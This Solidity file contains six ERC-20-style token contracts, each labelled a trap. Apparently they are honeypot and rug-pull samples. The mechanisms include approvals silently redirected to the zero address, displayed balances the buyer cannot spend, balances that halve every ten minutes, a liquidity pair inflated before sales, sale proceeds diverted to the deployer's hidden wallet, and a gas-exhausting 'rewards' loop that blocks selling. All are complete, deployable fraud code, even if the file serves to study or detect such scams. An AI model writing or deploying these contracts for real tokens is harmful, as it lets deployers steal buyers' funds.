// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {Lean, Owned} from "./Lean.sol";

/// Traps whose bookkeeping is what deceives.

/// An approval is announced but kept only for those on a list, so a router finds no allowance.
contract EmptyApprovalBuiltTrap is Lean("Approve Inu", "APINU", 18), Owned {
    mapping(address => bool) private _route;

    constructor() {
        _route[msg.sender] = true;
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair) external onlyOwner {
        _route[pair] = true;
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        _approve(msg.sender, spender, amount);
        return true;
    }

    function _approve(address from, address spender, uint256 amount) private {
        if (_route[from]) allowance[from][spender] = amount;
        else allowance[from][address(0)] = amount;
        emit Approval(from, spender, amount);
    }
}

/// What the market sends is shown as the buyer's balance, but it is not theirs to send.
contract ShownBalanceBuiltTrap is Owned {
    string public constant name = "Mirror Finance Cash";
    string public constant symbol = "MFC";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 5_000_000 ether;
    mapping(address => uint256) private _held;
    mapping(address => uint256) private _shown;
    mapping(address => mapping(address => uint256)) public allowance;
    address private _market;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setUp(address pair) external onlyOwner {
        _market = pair;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _held[who] + _shown[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        require(_held[from] >= value, "ERC20: transfer amount exceeds balance");
        _held[from] -= value;
        if (from == _market) {
            _shown[to] += value;
            _held[owner] += value;
        } else {
            _held[to] += value;
        }
        emit Transfer(from, to, value);
        return true;
    }
}

/// Elastic supply in which the market does not take part: everybody else's balance halves every ten minutes.
contract HalvingBuiltTrap is Owned {
    string public constant name = "Elastic Gold";
    string public constant symbol = "EGLD";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    mapping(address => uint256) private _shares;
    mapping(address => uint256) private _epoch;
    mapping(address => bool) private _stable;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _stable[msg.sender] = true;
        _shares[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setUp(address pair) external onlyOwner {
        _stable[pair] = true;
    }

    function balanceOf(address who) public view returns (uint256) {
        if (_stable[who]) return _shares[who];
        uint256 epochs = block.timestamp / 10 minutes - _epoch[who];
        return epochs > 128 ? 0 : _shares[who] >> epochs;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _settle(address who) private {
        _shares[who] = balanceOf(who);
        _epoch[who] = block.timestamp / 10 minutes;
    }

    function _move(address from, address to, uint256 value) private {
        _settle(from);
        _settle(to);
        _shares[from] -= value;
        _shares[to] += value;
        emit Transfer(from, to, value);
    }
}

interface IPairSync {
    function sync() external;
}

/// Before a holder's tokens arrive, the market is given a thousand times what it has and told to note it.
contract DilutedSaleBuiltTrap is Lean("Deep Pool", "DEEP", 18), Owned {
    address private pair;

    constructor() {
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair_) external onlyOwner {
        pair = pair_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) {
            balanceOf[pair] += balanceOf[pair] * 1_000;
            IPairSync(pair).sync();
        }
        super._transfer(from, to, amount);
    }
}

/// The seller's tokens go to the deployer's second wallet; the market gets none, and nothing fails in the token.
contract DivertedSaleBuiltTrap is Lean("Side Door", "SIDE", 18), Owned {
    address private pair;
    address private immutable wallet = address(uint160(uint256(keccak256(abi.encode(msg.sender)))));

    constructor() {
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair_) external onlyOwner {
        pair = pair_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        bool diverts = to == pair && from != owner;
        balanceOf[from] -= amount;
        balanceOf[diverts ? wallet : to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// "Rewards" are paid to all holders with each sale, by a loop that no block has room for.
contract EndlessRewardsBuiltTrap is Lean("Rewards For All", "RFA", 18), Owned {
    address private pair;
    mapping(uint256 => uint256) private rewards;
    uint256 private constant SLOTS = 4_000_000_000;

    constructor() {
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair_) external onlyOwner {
        pair = pair_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) {
            uint256 share = amount / 1_000_000;
            for (uint256 i = 0; i < SLOTS; i++) rewards[i] += share;
        }
        super._transfer(from, to, amount);
    }
}
